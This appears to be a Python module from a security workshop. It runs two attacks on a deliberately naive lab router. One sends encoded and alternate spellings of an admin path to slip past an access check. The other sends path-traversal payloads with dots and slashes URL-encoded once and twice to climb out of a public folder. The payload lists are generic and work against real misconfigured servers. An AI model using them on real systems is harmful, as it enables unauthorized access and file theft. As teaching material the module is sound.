"""Two attacks on a router: a path that two readers read differently, and one decoded twice.

Run them with `python3 -m workshop attack 3`. Both are one line of text each: no tool is needed
but a client that sends a path as it is written.
"""

from workshop.attacks import Attack, Outcome, Target

TREASURE = b"the keys of the shop"

CONFUSED = (
    "/admin/1",  # the honest one: refused everywhere
    "/%61dmin/1",  # one letter, encoded
    "/admin%2F1",  # the slash, encoded
    "/admin%2f1%0A",  # and a line feed, which $ forgives
    "//admin/1",  # one slash more
    "/x/../admin/1",  # through the back door
)

TRAVERSAL = (
    "/files/../keys.txt",
    "/files/%2e%2e/keys.txt",  # encoded once
    "/files/..%2fkeys.txt",  # the slash too
    "/files/%252e%252e/keys.txt",  # encoded twice
    "/files/%252e%252e%252fkeys.txt",  # dots and slash
)


def confusion(target: Target) -> Outcome:
    """Ask for the keys without a password, in every spelling of the path."""
    return try_all(target, CONFUSED)


def double_decoding(target: Target) -> Outcome:
    """Climb out of the public folder, with dots encoded not at all, once and twice."""
    return try_all(target, TRAVERSAL)


def try_all(target: Target, paths: tuple[str, ...]) -> Outcome:
    """Send each path in a connection of its own; the attack wins if one brings the treasure."""
    won, seen = False, []
    for path in paths:
        client = target.connect()
        client.send(f"GET {path} HTTP/1.1\r\nHost: shop\r\nConnection: close\r\n\r\n".encode())
        reply = client.recv_all()
        client.close()
        got_it = TREASURE in reply
        won = won or got_it
        status = reply[9:12].decode("latin-1") or "---"
        seen.append(f"{status}  {path}{'  KEYS' if got_it else ''}")
    return Outcome(won, "\n".join(seen))


ATTACKS = (
    Attack(
        "Route confusion",
        story="A guard reads the path as it came, the router reads it decoded. Do they agree?",
        victim="naive",
        run=confusion,
    ),
    Attack(
        "Traversal by double decoding",
        story="What was harmless when it was checked is decoded once more before it is used.",
        victim="naive",
        run=double_decoding,
    ),
)
